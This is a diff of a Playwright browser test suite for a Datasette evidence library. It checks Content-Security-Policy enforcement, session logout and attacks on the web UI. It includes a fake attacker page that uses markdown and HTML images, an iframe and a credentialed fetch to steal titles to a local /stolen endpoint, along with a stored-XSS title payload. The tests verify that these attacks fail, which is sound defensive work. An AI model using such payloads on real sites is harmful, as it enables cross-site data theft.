@@ -1,16 +1,21 @@
 """The web UI as a person sees it: a real `evidence serve`, driven by headless Chromium.
 
-One demo library with two managers is served for the whole module, as of 31 March 2018, and
-one browser visits it. Each step saves a full-page screenshot to build/screenshots/, to look
+One demo library with two managers and an analyst is served for the whole module, as of
+31 March 2018, and one browser visits it; the attacks start servers of their own. Each step saves a full-page screenshot to build/screenshots/, to look
 at after a run. Debian's chromium is used (`make test` installs it): Playwright's own browsers
 are never downloaded.
 """
 
+import contextlib
+import datetime as dt
+import http.server
+import json
 import re
 import shutil
 import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.error
 import urllib.parse
@@ -58,25 +63,29 @@ def free_port() -> int:
 
 @pytest.fixture(scope="module")
 def library(tmp_path_factory) -> Path:
-    """The demo library, with mia.manager to browse it and ex.manager to be disabled."""
+    """The demo library, with mia.manager to browse it, ex.manager to be disabled and
+    ann.analyst to run SQL."""
     path = tmp_path_factory.mktemp("browser") / "evidence.db"
     evidence("demo", "--db", path)
-    for name in ("mia.manager", "ex.manager"):
+    for name, role in (("mia.manager", "manager"), ("ex.manager", "manager"),
+                       ("ann.analyst", "analyst")):  # fmt: skip
         evidence(
-            "user", "add", name, "--role", "manager", "--password-stdin", "--db", path,
+            "user", "add", name, "--role", role, "--password-stdin", "--db", path,
             "--by", "tester", stdin=PASSWORD + "\n",
         )  # fmt: skip
     return path
 
 
-@pytest.fixture(scope="module")
-def server(library):
-    """`evidence serve` on a free port: the address to visit."""
+@contextlib.contextmanager
+def serving(library: Path, as_of: str | None = AS_OF):
+    """`evidence serve` of `library` on a free port, as of `as_of` (None: today): the
+    address to visit."""
     port = free_port()
     out, err = library.with_name("serve.out"), library.with_name("serve.err")
+    day = ["--as-of", as_of] if as_of else []
     with open(out, "w") as stdout, open(err, "w") as stderr:
         process = subprocess.Popen(
-            command("serve", "--db", library, "--port", port, "--as-of", AS_OF),
+            command("serve", "--db", library, "--port", port, *day),
             stdout=stdout,
             stderr=stderr,
         )
@@ -112,6 +121,13 @@ def server(library):
 
 
 @pytest.fixture(scope="module")
+def server(library):
+    """`evidence serve` of the demo library, with accounts."""
+    with serving(library) as base:
+        yield base
+
+
+@pytest.fixture(scope="module")
 def browser():
     chromium = shutil.which("chromium")
     if not chromium:
@@ -123,10 +139,32 @@ def browser():
         launched.close()
 
 
+# Every page keeps what the browser refused under the Content-Security-Policy.
+WATCH_POLICY = """
+window.refused = [];
+document.addEventListener("securitypolicyviolation", (event) => {
+  window.refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
+});
+"""
+
+
 def new_page(browser) -> Page:
     context = browser.new_context(viewport={"width": 1280, "height": 900})
     context.set_default_timeout(10_000)
-    return context.new_page()
+    context.add_init_script(WATCH_POLICY)
+    page = context.new_page()
+    page.console_refusals = []
+    page.on(
+        "console",
+        lambda message: "Content Security Policy" in message.text
+        and page.console_refusals.append(message.text),
+    )
+    return page
+
+
+def refused(page: Page) -> list[str]:
+    """What the browser refused on the page shown, under its Content-Security-Policy."""
+    return page.evaluate("window.refused") + page.console_refusals
 
 
 def log_in(page: Page, name: str) -> None:
@@ -221,8 +259,18 @@ def test_clicking_a_facet_value_shows_only_rows_of_that_kind(manager, server):
     shot(page, "04-facet.png")
 
 
-def test_the_dashboard_draws_its_charts_and_figures(manager, server):
+VEGA_CHARTS = ("per-month", "figures", "actions")
+
+
+def drawing(chart: str) -> str:
+    """What Vega draws a chart into, once it has drawn it."""
+    return f"#chart-{chart}.vega-embed svg.marks"
+METRICS = ("items", "open-actions", "overdue-actions", "below-floor")
+
+
+def test_the_dashboard_draws_every_chart_under_its_content_security_policy(manager, server):
     page = manager
+    page.console_refusals.clear()
     elsewhere = []
 
     def note(request) -> None:
@@ -230,21 +278,58 @@ def test_the_dashboard_draws_its_charts_and_figures(manager, server):
             elsewhere.append(request.url)
 
     page.on("request", note)
-    page.goto(server + "/-/dashboards/readiness")
-    for chart in ("per-month", "figures", "actions"):
-        page.wait_for_selector(
-            f"#chart-{chart}.vega-embed canvas, #chart-{chart}.vega-embed svg", state="visible"
-        )
-        box = page.locator(f"#chart-{chart} canvas, #chart-{chart} svg").first.bounding_box()
+    answer = page.goto(server + "/-/dashboards/readiness")
+    assert "script-src 'self';" in answer.headers["content-security-policy"]
+    for chart in VEGA_CHARTS:
+        drawn = page.locator(drawing(chart))
+        expect(drawn).to_be_visible()
+        box = drawn.bounding_box()
         assert box["width"] > 200 and box["height"] > 100, (chart, box)
-    expect(page.locator("#chart-items p")).to_have_text(re.compile(r"^\d[\d,]*$"))
+    for metric in METRICS:
+        expect(page.locator(f"#chart-{metric} p")).to_have_text(re.compile(r"^\d[\d,]*$"))
     assert int(page.locator("#chart-items p").inner_text().replace(",", "")) > 0
     expect(page.locator("#card-items")).to_contain_text("Items not withdrawn")
-    expect(page.locator("#chart-ratings table tbody tr").first).to_be_visible()
+    expect(page.locator("#chart-ratings table tbody tr")).to_have_count(7)  # the SIF areas
     expect(page.locator(".as-of")).to_have_text("Readiness and dashboard as of 31 Mar 2018")
+    # A tooltip is drawn from Vega's expressions, which run without eval under the policy.
+    page.locator('#chart-actions [aria-label*="status: closed; state: not overdue"]').hover()
+    expect(page.locator("#vg-tooltip-element")).to_be_visible()
+    expect(page.locator("#vg-tooltip-element")).to_contain_text("closed")
     shot(page, "05-dashboard.png")
     page.remove_listener("request", note)
     assert not elsewhere, f"the dashboard loaded from beyond the server: {elsewhere}"
+    assert refused(page) == []
+
+
+def test_no_page_breaks_the_content_security_policy(browser, server):
+    """Datasette's own pages (menus, the SQL editor, facets) work with no script of
+    their own in the page: the browser refuses nothing on any of them."""
+    page = new_page(browser)
+    try:
+        page.goto(server + "/-/login")
+        assert refused(page) == []
+        log_in(page, "ann.analyst")
+        for path in ("/", "/evidence", "/evidence/evidence", "/evidence/evidence/1", "/-/help",
+                     "/evidence?sql=select+title+from+evidence", "/evidence/open_actions",
+                     "/-/dashboards/readiness/figures", "/-/databases"):  # fmt: skip
+            page.console_refusals.clear()
+            page.goto(server + path)
+            page.wait_for_load_state("networkidle")
+            assert refused(page) == [], path
+        # The SQL editor is drawn by CodeMirror, from a file of its own.
+        page.goto(server + "/evidence?sql=select+title+from+evidence")
+        expect(page.locator(".CodeMirror")).to_be_visible()
+        # The menu opens and closes, by the script that closes menus.
+        page.locator("details.nav-menu summary").click()
+        expect(page.locator("details.nav-menu")).to_have_attribute("open", "")
+        page.locator("h1").click()
+        expect(page.locator("details.nav-menu")).not_to_have_attribute("open", "")
+        # Column descriptions fold under one line.
+        page.goto(server + "/evidence/evidence")
+        expect(page.locator("details.column-help summary")).to_have_text("What each column means")
+        assert refused(page) == []
+    finally:
+        page.context.close()
 
 
 def test_the_home_page_rates_every_area_and_opens_its_evidence(manager, server):
@@ -279,15 +364,9 @@ def test_disabling_an_account_ends_its_open_session(browser, server, library):
         expect(page).to_have_url(server + "/evidence/evidence")
         expect(page.locator("table.rows-and-columns")).to_be_visible()
         evidence("user", "disable", "ex.manager", "--db", library, "--by", "tester")
-        # Roles are read afresh at most every 2 seconds: the session ends within a few.
-        deadline = time.monotonic() + 8
-        # Each of the server's processes reads roles afresh on its own clock: wait until
-        # the login page, too, knows the session has ended.
-        while time.monotonic() < deadline and not (
-            "/-/login" in page.url and page.get_by_role("status").count()
-        ):
-            page.wait_for_timeout(250)
-            page.goto(server + "/evidence/evidence")
+        # Sessions are read on every request, by every process of the server: the next
+        # page is the login page.
+        page.goto(server + "/evidence/evidence")
         expect(page).to_have_url(re.compile(re.escape(server + "/-/login?next=")))
         expect(page.get_by_role("heading", name="Log in")).to_be_visible()
         expect(page.get_by_role("status")).to_contain_text("Your session has ended")
@@ -296,3 +375,169 @@ def test_disabling_an_account_ends_its_open_session(browser, server, library):
         expect(page.get_by_role("alert")).to_contain_text("do not match an account")
     finally:
         page.context.close()
+
+
+def test_logging_out_from_the_menu_ends_the_session_on_the_server(browser, server):
+    page = new_page(browser)
+    try:
+        page.goto(server + "/-/login?next=/evidence/evidence")
+        log_in(page, "mia.manager")
+        expect(page).to_have_url(server + "/evidence/evidence")
+        kept = next(c for c in page.context.cookies() if c["name"] == "ds_actor")
+        assert kept["sameSite"] == "Strict" and kept["httpOnly"]
+        page.locator("details.nav-menu summary").click()
+        page.get_by_role("button", name="Log out").click()
+        expect(page).to_have_url(server + "/-/login")
+        expect(page.locator(".message-info")).to_have_text("You have logged out.")
+        shot(page, "10-logged-out.png")
+        assert refused(page) == []
+        # The cookie, had it been copied before, names no one now.
+        page.context.add_cookies([kept])
+        page.goto(server + "/evidence/evidence")
+        expect(page).to_have_url(re.compile(re.escape(server + "/-/login?next=")))
+    finally:
+        page.context.close()
+
+
+# Attacks that take a browser to show (proof.WEB_ATTACKS; the rest are in test_web_seal.py)
+
+
+class Attacker:
+    """A site on this computer, on a port of its own (so a browser counts it as the same
+    site as the library, and sends it the library's cookies): it serves one page, and
+    keeps every request for /stolen..., which is what a stolen title would arrive as."""
+
+    def __init__(self) -> None:
+        self.page = b""
+        self.received: list[str] = []
+        attacker = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                if self.path == "/":
+                    body = attacker.page
+                    self.send_response(200)
+                    self.send_header("content-type", "text/html; charset=utf-8")
+                    self.send_header("content-length", str(len(body)))
+                    self.end_headers()
+                    self.wfile.write(body)
+                    return
+                if self.path.startswith("/stolen"):
+                    attacker.received.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def trap(self, library_url: str) -> None:
+        """A page that makes the browser ask the library for its titles, inside the
+        address of an image here, in every way a page elsewhere can: an image, a frame, a
+        fetch, a form sent by script, and last, sending the whole tab there."""
+        sql = (
+            f"select '![x]({self.url}/stolen?d=' || group_concat(title) || ')' as x_markdown,"
+            f" '<img src={self.url}/stolen-html>' as y_html from evidence"
+        )
+        target = library_url + "/evidence?" + urllib.parse.urlencode({"sql": sql})
+        data = library_url + "/evidence.json?" + urllib.parse.urlencode({"sql": sql})
+        quoted = json.dumps(target)
+        self.page = f"""<!DOCTYPE html><title>Lunch menu</title>
+<img src={json.dumps(target)}><iframe src={json.dumps(target)}></iframe>
+<form id=f method=get action={json.dumps(library_url + "/evidence")}>
+<input type=hidden name=sql value={json.dumps(sql)}></form>
+<script>
+fetch({json.dumps(data)}, {{credentials: "include"}})
+  .then((r) => r.text()).then((t) => fetch("{self.url}/stolen-json?d=" + encodeURIComponent(t)))
+  .catch(() => {{}});
+setTimeout(() => {{ window.location.href = {quoted}; }}, 500);
+</script>""".encode()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture
+def attacker():
+    site = Attacker()
+    yield site
+    site.close()
+
+
+def today(offset_days: int = 0) -> str:
+    return (dt.date.today() + dt.timedelta(days=offset_days)).isoformat()
+
+
+@pytest.fixture(scope="module")
+def local_library(tmp_path_factory) -> Path:
+    """A library with no accounts, served to whoever is at this computer: area 1's worst
+    finding quotes a title that is HTML with a script in it."""
+    folder = tmp_path_factory.mktemp("local")
+    path = folder / "evidence.db"
+    text = folder / "self-evaluation.txt"
+    text.write_text("Practice is improving.\n")
+    evidence("add", "audit", "--title", HOSTILE_TITLE, "--date", today(-60), "--area", "1",
+             "--db", path)  # fmt: skip
+    evidence("add", "child-story", "--title", "A's journey home", "--date", today(-30),
+             "--area", "1", "--db", path)  # fmt: skip
+    evidence("self-eval", "set", "1", "--grade", "good", "--text-file", text, "--db", path)
+    evidence("action", "add", "1", "--text", "Audit again", "--ref", "R1", "--due", today(-40),
+             "--on", today(-59), "--db", path)  # fmt: skip
+    return path
+
+
+HOSTILE_TITLE = "<img src=x onerror=document.title='PWNED'>"
+
+
+def test_attack_markdown_exfiltration(browser, server, library, local_library, attacker):
+    # Without accounts: whoever is at this computer may run SQL.
+    with serving(local_library, as_of=None) as local:
+        page = new_page(browser)
+        try:
+            attacker.trap(local)
+            page.goto(attacker.url + "/")
+            page.wait_for_url(re.compile(re.escape(local)), timeout=10_000)
+            page.wait_for_load_state("networkidle")
+            shot(page, "08-exfiltration-refused.png")
+        finally:
+            page.context.close()
+    # With accounts: an analyst, logged in, visits the page elsewhere.
+    page = new_page(browser)
+    try:
+        page.goto(server + "/-/login")
+        log_in(page, "ann.analyst")
+        expect(page).to_have_url(server + "/")
+        attacker.trap(server)
+        page.goto(attacker.url + "/")
+        page.wait_for_url(re.compile(re.escape(server)), timeout=10_000)
+        page.wait_for_load_state("networkidle")
+    finally:
+        page.context.close()
+    assert attacker.received == []
+
+
+def test_attack_script_in_dashboard(browser, local_library):
+    with serving(local_library, as_of=None) as local:
+        page = new_page(browser)
+        try:
+            page.goto(local + "/-/dashboards/readiness")
+            worst = page.locator("#chart-ratings table tbody tr").nth(1).locator("td").nth(6)
+            expect(worst).to_contain_text(HOSTILE_TITLE)
+            for chart in VEGA_CHARTS:
+                expect(page.locator(drawing(chart))).to_be_visible()
+            page.wait_for_timeout(500)
+            assert page.title() == "Readiness dashboard"
+            assert page.locator("#chart-ratings img, #chart-ratings script").count() == 0
+            assert page.locator("img").count() == 0
+            shot(page, "09-hostile-title.png")
+            assert refused(page) == []
+            # The home page quotes it too, as text.
+            page.goto(local + "/")
+            expect(page.locator("table.readiness")).to_contain_text(HOSTILE_TITLE)
+            assert page.title() != "PWNED" and page.locator("img").count() == 0
+        finally:
+            page.context.close()
